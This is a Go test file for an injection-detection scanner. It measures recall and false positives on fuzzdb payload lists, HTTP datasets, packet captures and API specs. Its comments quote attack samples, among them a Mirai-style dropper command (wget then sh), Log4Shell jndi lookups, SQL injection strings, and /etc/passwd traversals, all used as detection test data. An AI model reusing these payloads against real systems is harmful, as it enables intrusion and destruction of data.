package inject

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"io/fs"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/apitap/apitap/internal/pcaptest"
	"github.com/apitap/apitap/internal/testutil"
)

// The corpus (shared/corpus, SOURCES.md): labelled attack payloads
// (fuzzdb, HttpParamsDataset), attack and normal traffic (CSIC 2010,
// fwaf), benign captures (pcap/), API descriptions (openapi/).

// fuzzdbSet is a fuzzdb file used as labelled positives.
type fuzzdbSet struct {
	path  string // under attack/
	class Class
	// also lists other classes a hit may be reported as (SSI is both
	// template and command injection).
	also ClassSet
	// prep turns the file's lines into payloads (nil: every non-empty
	// line).
	prep func([]string) []string
}

// fuzzdbSets are the payload lists. Left out as wordlists, not payloads:
// os-cmd-execution/Commands-*.txt (command names), shell-delimiters.txt
// and shell-operators.txt (single operators), useful-commands-*.txt
// (commands without an injection point), source-disc-cmd-exec-traversal.txt
// (fragments), xss/all-encodings-of-lt.txt (a lone '<'),
// xss/*event-attributes.txt (attribute names), lfi/*log-locations.txt
// (file names), sql-injection/exploit/*-enumeration.txt and
// mysql-read-local-files.txt (post-exploitation SQL statements, which an
// API that accepts SQL receives legitimately). Other folders are other
// attack classes (ldap, xpath, xml, format-strings, http-protocol,
// redirect, rfi, unicode, json).
var fuzzdbSets = []fuzzdbSet{
	{path: "sql-injection/detect/GenericBlind.txt", class: SQLi},
	{path: "sql-injection/detect/MSSQL.txt", class: SQLi},
	{path: "sql-injection/detect/MSSQL_blind.txt", class: SQLi},
	{path: "sql-injection/detect/MySQL.txt", class: SQLi},
	{path: "sql-injection/detect/MySQL_MSSQL.txt", class: SQLi},
	{path: "sql-injection/detect/oracle.txt", class: SQLi},
	{path: "sql-injection/detect/xplatform.txt", class: SQLi, prep: dropProbes},
	{path: "sql-injection/exploit/mysql-injection-login-bypass.txt", class: SQLi},
	{path: "sql-injection/payloads-sql-blind/payloads-sql-blind-MSSQL-INSERT.txt", class: SQLi},
	{path: "sql-injection/payloads-sql-blind/payloads-sql-blind-MSSQL-WHERE.txt", class: SQLi},
	{path: "sql-injection/payloads-sql-blind/payloads-sql-blind-MySQL-INSERT.txt", class: SQLi},
	{path: "sql-injection/payloads-sql-blind/payloads-sql-blind-MySQL-ORDER_BY.txt", class: SQLi},
	{path: "sql-injection/payloads-sql-blind/payloads-sql-blind-MySQL-WHERE.txt", class: SQLi},
	{path: "xss/XSSPolyglot.txt", class: XSS, prep: dropProbes},
	{path: "xss/xss-other.txt", class: XSS, prep: dropProbes},
	{path: "xss/xss-rsnake.txt", class: XSS},
	{path: "xss/xss-uri.txt", class: XSS},
	{path: "xss/test.xxe", class: XSS},
	{path: "xss/JHADDIX_XSS_WITH_CONTEXT.doc.txt", class: XSS, prep: exploitStrings},
	{path: "path-traversal/traversals-8-deep-exotic-encoding.txt", class: PathTraversal, prep: replacer("{FILE}", "etc/passwd")},
	{path: "path-traversal/path-traversal-windows.txt", class: PathTraversal},
	{path: "lfi/JHADDIX_LFI.txt", class: PathTraversal, prep: lfiPayloads},
	{path: "os-cmd-execution/command-execution-unix.txt", class: CommandInjection},
	{path: "os-cmd-execution/OSCommandInject.Windows.txt", class: CommandInjection},
	{path: "os-cmd-execution/command-injection-template.txt", class: CommandInjection, prep: cmdTemplates},
	{path: "no-sql-injection/mongodb.txt", class: NoSQLi},
	{path: "server-side-include/server-side-includes-generic.txt", class: TemplateInjection, also: Classes(CommandInjection)},
}

// recallFloors are the per-class recall floors over fuzzdbSets (percent):
// what was measured, less a small margin. A rule that stops matching
// fails here.
var recallFloors = map[Class]float64{
	SQLi:              93,
	XSS:               73,
	PathTraversal:     84,
	CommandInjection:  81,
	NoSQLi:            90,
	TemplateInjection: 98,
}

// dropProbes drops fuzzing tokens mixed into payload lists: lines with
// fewer than two words of two or more letters once percent-decoded ("'",
// "a'", "or", "%21", "<XSS>", "alert").
func dropProbes(lines []string) []string {
	var out []string
	for _, l := range lines {
		d, err := url.PathUnescape(l)
		if err != nil {
			d = l
		}
		words, run := 0, 0
		for i := 0; i <= len(d); i++ {
			if i < len(d) && isAlpha(d[i]) {
				run++
				continue
			}
			if run >= 2 {
				words++
			}
			run = 0
		}
		if words >= 2 {
			out = append(out, l)
		}
	}
	return out
}

// exploitStrings keeps the "Exploit String:" lines of the JHADDIX XSS
// document.
func exploitStrings(lines []string) []string {
	var out []string
	for _, l := range lines {
		if p, ok := strings.CutPrefix(l, "Exploit String: "); ok && strings.TrimSpace(p) != "" {
			out = append(out, p)
		}
	}
	return out
}

// lfiPayloads keeps the lines of JHADDIX_LFI.txt that traverse or name a
// system file; the rest is a list of log and config file locations
// (/apache/logs/access.log) meant to be appended to a traversal.
func lfiPayloads(lines []string) []string {
	var out []string
	for _, l := range lines {
		ll := strings.ToLower(l)
		for _, k := range []string{"..", "%2e", "%c0", "%uff0e", "0x2e", "etc/passwd", "etc/shadow", "boot.ini", "win.ini"} {
			if strings.Contains(ll, k) {
				out = append(out, l)
				break
			}
		}
	}
	return out
}

// cmdTemplates instantiates command-injection-template.txt with "id";
// the bare "{cmd}" and "'{cmd}'" lines (no separator) are not injections.
func cmdTemplates(lines []string) []string {
	var out []string
	for _, l := range lines {
		if l == "{cmd}" || l == "'{cmd}'" {
			continue
		}
		out = append(out, strings.ReplaceAll(l, "{cmd}", "id"))
	}
	return out
}

func replacer(old, new string) func([]string) []string {
	return func(lines []string) []string {
		out := make([]string, len(lines))
		for k, l := range lines {
			out[k] = strings.ReplaceAll(l, old, new)
		}
		return out
	}
}

func readLines(t testing.TB, path string) []string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, l := range strings.Split(string(data), "\n") {
		l = strings.TrimRight(l, "\r")
		if strings.TrimSpace(l) != "" {
			out = append(out, l)
		}
	}
	return out
}

// TestCorpusFuzzdbRecall measures recall per class on the fuzzdb payload
// lists and holds it to recallFloors.
func TestCorpusFuzzdbRecall(t *testing.T) {
	root := filepath.Join(testutil.Corpus(t), "attacks", "fuzzdb", "attack")
	var s Scanner
	hit := map[Class]int{}
	total := map[Class]int{}
	for _, set := range fuzzdbSets {
		lines := readLines(t, filepath.Join(root, set.path))
		if set.prep != nil {
			lines = set.prep(lines)
		}
		want := Classes(set.class) | set.also
		h := 0
		var misses []string
		for _, l := range lines {
			found := false
			for _, m := range s.Scan(nil, []byte(l)) {
				if want.Has(m.Class) {
					found = true
				}
			}
			if found {
				h++
			} else if len(misses) < 5 {
				misses = append(misses, l)
			}
		}
		hit[set.class] += h
		total[set.class] += len(lines)
		t.Logf("%-70s %-18s %4d/%-4d %5.1f%%  e.g. missed %q", set.path, set.class, h, len(lines), pct(h, len(lines)), misses)
	}
	for c := SQLi; c < numClasses; c++ {
		if total[c] == 0 {
			continue
		}
		r := pct(hit[c], total[c])
		t.Logf("recall %-18s %5d/%-5d = %5.1f%% (floor %.0f%%)", c, hit[c], total[c], r, recallFloors[c])
		if r < recallFloors[c] {
			t.Errorf("%s recall %.1f%% below the floor %.0f%%", c, r, recallFloors[c])
		}
	}
}

func pct(a, b int) float64 {
	if b == 0 {
		return 0
	}
	return 100 * float64(a) / float64(b)
}

// httpParamsFloors are the recall floors on HttpParamsDataset (percent).
var httpParamsFloors = map[string]float64{"sqli": 99, "xss": 81, "path-traversal": 43, "cmdi": 63}

// TestCorpusHTTPParams: HttpParamsDataset's labelled parameter values.
// Recall per class; its 19,304 normal values (from CSIC 2010) must not
// match at all. Path traversal recall is low by the data: about half the
// rows are unfilled templates ("/../../{file}", "/iii{file}"), filler
// ("/aaaa…", "/....…"), Windows paths whose backslashes the dataset lost
// ("c:windowswin.ini") or IIS's 0x2e notation.
func TestCorpusHTTPParams(t *testing.T) {
	f, err := os.Open(filepath.Join(testutil.Corpus(t), "attacks", "httpparamsdataset", "payload_full.csv"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	r := csv.NewReader(f)
	r.LazyQuotes = true
	r.FieldsPerRecord = -1
	class := map[string]Class{"sqli": SQLi, "xss": XSS, "path-traversal": PathTraversal, "cmdi": CommandInjection}
	hit, total := map[string]int{}, map[string]int{}
	var fps []string
	var s Scanner
	header := true
	for {
		rec, err := r.Read()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if header {
			header = false
			if rec[0] != "payload" || rec[2] != "attack_type" {
				t.Fatalf("columns %v", rec)
			}
			continue
		}
		if len(rec) < 4 {
			continue
		}
		typ := rec[2]
		ms := s.Scan(nil, []byte(rec[0]))
		total[typ]++
		if typ == "norm" {
			if len(ms) > 0 {
				fps = append(fps, fmt.Sprintf("%q %v", rec[0], ms))
			}
			continue
		}
		for _, m := range ms {
			if m.Class == class[typ] {
				hit[typ]++
				break
			}
		}
	}
	for _, typ := range []string{"sqli", "xss", "path-traversal", "cmdi"} {
		rc := pct(hit[typ], total[typ])
		t.Logf("recall %-15s %5d/%-5d = %5.1f%% (floor %.0f%%)", typ, hit[typ], total[typ], rc, httpParamsFloors[typ])
		if rc < httpParamsFloors[typ] {
			t.Errorf("%s recall %.1f%% below the floor %.0f%%", typ, rc, httpParamsFloors[typ])
		}
	}
	t.Logf("normal values: %d, matched %d", total["norm"], len(fps))
	if total["norm"] < 19000 {
		t.Errorf("only %d normal values read", total["norm"])
	}
	for _, fp := range fps {
		t.Errorf("false positive on a normal value: %s", fp)
	}
}

// csicParts returns the path and the raw query of a CSIC one-line
// request ("get http://localhost:8080/path?query", POST bodies appended
// as the query).
func csicParts(line string) (path, query string) {
	_, u, _ := strings.Cut(line, " ")
	u = strings.TrimPrefix(u, "http://localhost:8080")
	path, query, _ = strings.Cut(u, "?")
	return path, query
}

// scanLines scans the path and query of every request in a CSIC-format
// file and returns the number of requests and the matched ones with
// their rules.
func scanRequests(t testing.TB, path string, limit int) (n int, matched []string, rules map[string]int) {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	var s Scanner
	rules = map[string]int{}
	var ms []Match
	for sc.Scan() {
		line := sc.Text()
		if line == "" {
			continue
		}
		n++
		p, q := csicParts(line)
		ms = s.Scan(ms[:0], []byte(p))
		ms = s.Scan(ms, []byte(q))
		if len(ms) > 0 {
			for _, m := range ms {
				rules[m.Rule]++
			}
			if len(matched) < limit {
				matched = append(matched, fmt.Sprintf("%v %.200q", ms, line))
			} else {
				matched = append(matched, "")
			}
		}
	}
	return n, matched, rules
}

// TestCorpusCSICNormal: CSIC 2010's 36,000 normal requests (a synthetic
// Spanish web shop: names with apostrophes, addresses "c/ caridad s/n",
// passwords, card numbers) produce no match: 0 per million.
func TestCorpusCSICNormal(t *testing.T) {
	n, matched, _ := scanRequests(t, filepath.Join(testutil.Corpus(t), "attacks", "csic2010-oneline", "normal.txt"), 50)
	t.Logf("%d normal requests, %d matched: %.0f per million", n, len(matched), 1e6*float64(len(matched))/float64(n))
	if n < 36000 {
		t.Errorf("only %d requests read", n)
	}
	for _, m := range matched {
		if m != "" {
			t.Errorf("false positive: %s", m)
		}
	}
}

// TestCorpusAttackTraffic: detection rates on unlabelled attack traffic,
// held to floors. CSIC 2010's anomalous set mixes injections with
// anomalies this package does not look for (unknown files, parameter
// tampering, overlong values, CRLF); fwaf's bad queries are largely
// probes for files and remote includes (XXpathXX templates).
func TestCorpusAttackTraffic(t *testing.T) {
	root := testutil.Corpus(t)
	for _, c := range []struct {
		name  string
		path  string
		floor float64
	}{
		{"csic2010 anomalous", filepath.Join(root, "attacks", "csic2010-oneline", "anomalous.txt"), 16},
		{"fwaf badqueries", filepath.Join(root, "attacks", "fwaf", "badqueries.txt"), 49},
	} {
		path := c.path
		if strings.Contains(path, "fwaf") {
			// One query per line without a method: make it CSIC-shaped.
			lines := readLines(t, path)
			tmp := filepath.Join(t.TempDir(), "fwaf.txt")
			var b bytes.Buffer
			for _, l := range lines {
				b.WriteString("get " + l + "\n")
			}
			if err := os.WriteFile(tmp, b.Bytes(), 0o644); err != nil {
				t.Fatal(err)
			}
			path = tmp
		}
		n, matched, rules := scanRequests(t, path, 0)
		rate := pct(len(matched), n)
		t.Logf("%s: %d/%d requests matched = %.1f%% (floor %.0f%%); by rule %v", c.name, len(matched), n, rate, c.floor, rules)
		if rate < c.floor {
			t.Errorf("%s: detection %.1f%% below the floor %.0f%%", c.name, rate, c.floor)
		}
	}
}

// corpusPcapHits lists every capture in which a request part matches, as
// the sorted set of "part:class" found, with the reason. The attack
// captures must keep their detections; any other capture is benign
// traffic and a match there is a false positive to explain.
var corpusPcapHits = map[string]struct{ hits, why string }{
	"ndpi/WebattackRCE.pcap": {
		"body:cmd_injection header:content-type:template_injection header:expect:xss path:cmd_injection path:path_traversal query:cmd_injection query:path_traversal",
		"attack capture: Nikto-style RCE probes (;system('id'), |id|, cat /etc/passwd, ../winnt/system32/cmd.exe, Struts OGNL in Content-Type, <script> in Expect)",
	},
	"ndpi/WebattackSQLinj.pcap": {
		"header:referer:sqli query:sqli",
		"attack capture: DVWA SQL injection (1' and 1=1#, union select … information_schema), also in the Referer of the next request",
	},
	"ndpi/sql_injection.pcap": {"query:sqli", "attack capture: a' UNION SELECT \"text1\",\"text2\";-- -"},
	"ndpi/xss.pcap":           {"query:xss", "attack capture: DVWA DOM XSS, English<script>alert(1)</script>"},
	"ndpi/log4j-webapp-exploit.pcap": {
		"body:jndi header:user-agent:jndi",
		"attack capture: Log4Shell, uname=${jndi:ldap://…} and a User-Agent carrying the lookup's body (jndi:ldap://…)",
	},
	"zeek/cooper-grill-dvwa.pcapng": {
		"header:referer:sqli query:sqli",
		"attack capture: DVWA SQL injection (1' OR '1'='1, UNION SELECT NULL, version() #)",
	},
	"suricata-verify/bug-5437-02__input.pcap": {
		"query:cmd_injection",
		"real exploit traffic in a Suricata test: cd /tmp;rm -rf *;wget http://…/arm;sh /tmp/arm (a Mirai-style dropper)",
	},
	"suricata-verify/vxlan-non-zero-reserved-fields__input.pcap": {
		"query:path_traversal",
		"a test request probing cmd=/etc/passwd",
	},
}

// TestCorpusPcap runs every capture through the sensor and scans each
// request's path, query, header values and body, as the analyzer will.
func TestCorpusPcap(t *testing.T) {
	root := testutil.Corpus(t)
	got := map[string]string{}
	files, parts, bodies := 0, 0, 0
	var s Scanner
	err := filepath.WalkDir(filepath.Join(root, "pcap"), func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || !(strings.HasSuffix(path, ".pcap") || strings.HasSuffix(path, ".pcapng")) {
			return err
		}
		files++
		rel, _ := filepath.Rel(filepath.Join(root, "pcap"), path)
		rel = filepath.ToSlash(rel)
		seen := map[string]bool{}
		for _, e := range pcaptest.MustExchanges(t, path) {
			for _, p := range exchangeParts(e) {
				parts++
				if p.where == "body" {
					bodies++
				}
				for _, m := range s.ScanClasses(nil, p.data, p.cs) {
					k := p.where + ":" + m.Class.String()
					if !seen[k] {
						d := s.Decoded()
						t.Logf("%s %s %s %s: %q", rel, p.where, m.Class, m.Rule, d[m.Offset:min(len(d), m.Offset+80)])
					}
					seen[k] = true
				}
			}
		}
		if len(seen) > 0 {
			keys := make([]string, 0, len(seen))
			for k := range seen {
				keys = append(keys, k)
			}
			slices.Sort(keys)
			got[rel] = strings.Join(keys, " ")
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if files < 100 {
		t.Fatalf("only %d captures read", files)
	}
	t.Logf("%d captures, %d request parts (%d bodies), %d captures with a match", files, parts, bodies, len(got))
	for f, hits := range got {
		if w, ok := corpusPcapHits[f]; !ok || w.hits != hits {
			t.Errorf("unexplained matches (new false positives?): %s: %s", f, hits)
		}
	}
	for f, w := range corpusPcapHits {
		if got[f] != w.hits {
			t.Errorf("explained matches changed: %s: want %q (%s), got %q", f, w.hits, w.why, got[f])
		}
	}
}

// corpusOpenAPIHits are the matches in the corpus's API descriptions
// scanned as request bodies, "file rule", with the reason. The specs
// carry prose, HTML, SQL and shell in descriptions and examples; these
// are the values that do look like what they describe.
var corpusOpenAPIHits = map[string]string{
	"crapi-openapi-spec.json ssrf.loopback":       `"servers": [{"url": "http://localhost:8888"}], and the mechanic_api example "http://localhost:8000/…" (crAPI's own SSRF exercise)`,
	"vampi.postman_collection.json sqli.boolean":  `VAmPI's example value "anythingRandom' or '1'='1" (its SQL injection exercise)`,
	"vampi.postman_collection.json ssrf.loopback": `the collection variable "baseUrl": "http://localhost:5000"`,
}

// TestCorpusOpenAPI scans the API descriptions in MaxScan windows as
// bodies: GitHub, Kubernetes, Stripe and Twilio (17 MB of JSON with
// markdown, shell examples in code fences, CEL and SQL-like expressions,
// file:// URIs) produce nothing; the matches are corpusOpenAPIHits.
func TestCorpusOpenAPI(t *testing.T) {
	files, err := filepath.Glob(filepath.Join(testutil.Corpus(t), "openapi", "*"))
	if err != nil || len(files) == 0 {
		t.Skipf("no openapi files: %v", err)
	}
	var s Scanner
	got := map[string]bool{}
	windows := 0
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		for off := 0; off < len(data); off += MaxScan {
			windows++
			for _, m := range s.Scan(nil, data[off:min(len(data), off+MaxScan)]) {
				k := filepath.Base(f) + " " + m.Rule
				if !got[k] {
					d := s.Decoded()
					t.Logf("%s@%d: %q", k, off, d[m.Offset:min(len(d), m.Offset+80)])
				}
				got[k] = true
			}
		}
	}
	t.Logf("%d files, %d windows", len(files), windows)
	for k := range got {
		if _, ok := corpusOpenAPIHits[k]; !ok {
			t.Errorf("unexplained match (new false positive?): %s", k)
		}
	}
	for k, why := range corpusOpenAPIHits {
		if !got[k] {
			t.Errorf("explained match no longer found: %s (%s)", k, why)
		}
	}
}
